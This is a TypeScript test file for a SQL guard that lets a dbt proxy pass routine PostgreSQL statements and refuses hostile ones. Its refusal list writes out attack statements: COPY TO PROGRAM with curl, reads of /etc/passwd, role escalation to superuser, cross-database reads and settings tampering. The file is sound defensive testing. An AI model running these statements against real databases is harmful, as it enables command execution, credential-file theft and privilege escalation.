import { loadModule } from "libpg-query"
import { beforeAll, describe, expect, it } from "vitest"
import { classifyDbtSql, DBT_STATEMENT_MAX_BYTES } from "../../src/governance/sqlguard/DbtStatements"

const DB = "sb_branch"

describe("what the dbt proxy lets through (issue 30)", () => {
  beforeAll(() => loadModule())

  // A dbt run's statement sequence on PostgreSQL: introspection, a table model built by create-as, rename and drop, a view, seeds, tests.
  const DBT_RUN = [
    "select distinct nspname from pg_namespace",
    "create schema if not exists \"dbt_ada\"",
    "BEGIN",
    "create  table \"sb_branch\".\"dbt_ada\".\"orders__dbt_tmp\" as (select id, amount from analytics.orders where amount > 0)",
    "alter table \"sb_branch\".\"dbt_ada\".\"orders\" rename to \"orders__dbt_backup\"",
    "alter table \"sb_branch\".\"dbt_ada\".\"orders__dbt_tmp\" rename to \"orders\"",
    "COMMIT",
    "drop table if exists \"sb_branch\".\"dbt_ada\".\"orders__dbt_backup\" cascade",
    "create or replace view \"dbt_ada\".\"big_orders__dbt_tmp\" as (select * from dbt_ada.orders where amount > 15)",
    "insert into dbt_ada.seed_regions (id, name) values (%s, %s), (1, 'north')",
    "select count(*) as failures from (select id from dbt_ada.orders group by id having count(*) > 1) dbt_internal_test",
    "copy dbt_ada.seed_regions from stdin with csv",
    "set search_path to dbt_ada, public",
    "set transaction isolation level read committed",
    "reset all",
    "truncate dbt_ada.seed_regions",
    "create index on dbt_ada.orders (id)",
    "comment on table dbt_ada.orders is 'orders model'",
    "analyze dbt_ada.orders",
    "show search_path",
    "select name, setting from pg_settings where name = 'search_path'",
    // Options' string lists are no object names (attack 32 F3: three strings read as database.schema.object).
    "copy dbt_ada.seed_regions from stdin with (format csv, force_null ('a', 'b', 'c'))",
    "select 1; select 2"
  ]

  it.each(DBT_RUN.map((sql) => [sql]))("lets %s through", (sql) => {
    expect(classifyDbtSql(sql.replace("%s, %s", "1, 'south'"), DB)).toMatchObject({ allowed: true })
  })

  const REFUSED: ReadonlyArray<readonly [string, RegExp]> = [
    ["copy dbt_ada.orders to program 'curl http://x'", /COPY to or from a file or program/],
    ["copy dbt_ada.orders from '/etc/passwd'", /COPY to or from a file or program/],
    ["COPY (select 1) TO PROGRAM $$id$$", /file or program/],
    ["grant select on dbt_ada.orders to public", /GRANT is not allowed/],
    ["revoke all on dbt_ada.orders from bob", /GRANT is not allowed/],
    ["set role postgres", /SET role is not allowed/],
    ["set session authorization postgres", /SET session_authorization is not allowed/],
    ["select set_config('role', 'postgres', false)", /set_config is not allowed/],
    ["alter table dbt_ada.orders owner to postgres", /name no role|OWNER/],
    ["create schema evil authorization postgres", /name no role/],
    ["create role evil superuser", /CREATE ROLE is not allowed/],
    ["alter role current_user superuser", /ALTER ROLE is not allowed/],
    ["select * from otherdb.public.customers", /otherdb is another database/],
    ["create table dbt_ada.x as select * from prod.public.customers", /prod is another database/],
    ["create table prod.public.stolen as select 1", /prod is another database/],
    ["insert into prod.public.t values (1)", /prod is another database/],
    ["alter table prod.public.t rename to u", /prod is another database/],
    ["drop table prod.public.t", /prod is another database/],
    ["grant usage on schema dbt_ada to current_user, bob", /GRANT is not allowed/],
    ["comment on table prod.public.t is 'x'", /prod is another database/],
    ["select dblink('dbname=prod', 'select 1')", /dblink is not allowed/],
    // An UPDATE through a view over pg_settings is set_config (attack 32).
    ["create view dbt_ada.settings as select * from pg_settings", /view over pg_settings/],
    ["create or replace view dbt_ada.settings as select name, setting from pg_catalog.pg_settings where name like 'a%'", /view over pg_settings/],
    ["create view dbt_ada.settings as with s as (select * from pg_settings) select * from s", /view over pg_settings/],
    ["create schema s32 create view v as select * from pg_settings", /view over pg_settings/],
    ["select public.dblink_exec('x')", /dblink_exec is not allowed/],
    ["select pg_read_file('/etc/passwd')", /pg_read_file is not allowed/],
    ["select lo_import('/etc/passwd')", /lo_import is not allowed/],
    ["select query_to_xml('select 1', true, true, '')", /query_to_xml is not allowed/],
    ["select pg_terminate_backend(1)", /pg_terminate_backend is not allowed/],
    ["do $$ begin execute 'copy x to program ''id'''; end $$", /DO is not allowed/],
    ["create function f() returns int language sql as 'select 1'", /CREATE FUNCTION is not allowed/],
    ["create extension dblink", /CREATE EXTENSION is not allowed/],
    ["alter system set log_statement = 'all'", /ALTER SYSTEM is not allowed/],
    ["load 'auto_explain'", /LOAD is not allowed/],
    ["create database other", /CREATEDB is not allowed/],
    ["listen x", /LISTEN is not allowed/],
    ["select 1; copy t to program 'id'", /file or program/],
    ["with x as (select pg_read_file('/etc/passwd')) insert into t select * from x", /pg_read_file/],
    ["selec 1", /could not be parsed/],
    // The proxy reads statement text as UTF-8 with standard strings: nothing may change how the server reads it (attack 30, F1).
    ["set standard_conforming_strings = off", /SET standard_conforming_strings is not allowed/],
    ["set session standard_conforming_strings to off", /not allowed/],
    ["reset standard_conforming_strings", /not allowed/],
    ["set client_encoding = 'GBK'", /SET client_encoding is not allowed/],
    ["set names 'SJIS'", /SET client_encoding is not allowed/],
    // What the session may use of the warehouse's server is not the session's to lift (attack 38 F3).
    ["set work_mem = '1000GB'", /SET work_mem is not allowed/],
    ["set maintenance_work_mem = '1000GB'", /SET maintenance_work_mem is not allowed/],
    ["set local temp_buffers = '100GB'", /SET temp_buffers is not allowed/],
    ["set statement_timeout = 0", /SET statement_timeout is not allowed/],
    ["create table t as select 1; set session statement_timeout to default", /SET statement_timeout is not allowed/],
    ["set backslash_quote = on", /not allowed/],
    // pg_settings' rule calls set_config for an UPDATE: no write reaches the system catalogs (round 2, N1).
    ["update pg_settings set setting = 'off' where name = 'standard_conforming_strings'", /system catalogs/],
    ["UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'client_encoding'", /system catalogs/],
    ["with x as (update pg_settings set setting = 'off' where name = 'standard_conforming_strings' returning 1) select * from x", /system catalogs/],
    ["insert into pg_catalog.pg_settings (name, setting) values ('a', 'b')", /system catalogs/],
    ["delete from information_schema.sql_features", /system catalogs/],
    ["copy pg_settings from stdin", /system catalogs/],
    ["prepare transaction 'stuck'", /two-phase commit/],
    ["commit prepared 'stuck'", /two-phase commit/],
    // A statement inside CREATE SCHEMA is held to the same list (F6).
    ["create schema s create table t (id int) create trigger tr after insert on t execute function f()", /CREATE TRIG is not allowed|CREATE TRIGGER is not allowed/],
    ["create schema s create view v as select pg_read_file('/etc/passwd')", /pg_read_file/]
  ]

  it.each(REFUSED.map(([sql, why]) => [sql, why] as const))("refuses %s", (sql, why) => {
    const verdict = classifyDbtSql(sql, DB)
    expect(verdict.allowed).toBe(false)
    if (!verdict.allowed) expect(verdict.reason).toMatch(why)
  })

  it("a statement that differs from one seen only in its constants shares its verdict and keeps its own text; refusals are always read anew", () => {
    expect(classifyDbtSql("select id from dbt_ada.orders where id = 1 and note = 'a'", DB)).toEqual({ allowed: true, statements: [{ kind: "SELECT", sql: "select id from dbt_ada.orders where id = 1 and note = 'a'" }] })
    expect(classifyDbtSql("  select id from dbt_ada.orders where id = 77 and note = 'b''c'  ", DB)).toEqual({
      allowed: true,
      statements: [{ kind: "SELECT", sql: "select id from dbt_ada.orders where id = 77 and note = 'b''c'" }]
    })
    for (const file of ["/tmp/a", "/tmp/b"]) expect(classifyDbtSql(`copy dbt_ada.orders to '${file}'`, DB)).toMatchObject({ allowed: false })
    expect(classifyDbtSql("select 1 from dbt_ada.orders where id = 2; select 3", DB)).toMatchObject({ allowed: true, statements: [{ sql: "select 1 from dbt_ada.orders where id = 2" }, { sql: "select 3" }] })
    expect(classifyDbtSql("select 1 from dbt_ada.orders where id = 5; select 6", DB)).toMatchObject({ allowed: true, statements: [{ sql: "select 1 from dbt_ada.orders where id = 5" }, { sql: "select 6" }] })
    // Another database's session shares nothing.
    expect(classifyDbtSql(`create table ${DB}.public.t2 as select 1 where 'x' = 'y'`, DB)).toMatchObject({ allowed: true })
    expect(classifyDbtSql(`create table ${DB}.public.t2 as select 1 where 'x' = 'z'`, "sb_other")).toMatchObject({ allowed: false })
  })

  it("refuses a statement over 1 MiB, and allows one that names its own database", () => {
    expect(classifyDbtSql(`select '${"x".repeat(DBT_STATEMENT_MAX_BYTES)}'`, DB)).toMatchObject({ allowed: false })
    expect(classifyDbtSql(`select * from ${DB}.dbt_ada.orders`, DB)).toMatchObject({ allowed: true })
    expect(classifyDbtSql("select 'é'; create table t (id int) ;drop table t", DB)).toEqual({
      allowed: true,
      statements: [
        { kind: "SELECT", sql: "select 'é'" },
        { kind: "CREATE", sql: "create table t (id int)" },
        { kind: "DROP", sql: "drop table t" }
      ]
    })
  })
})
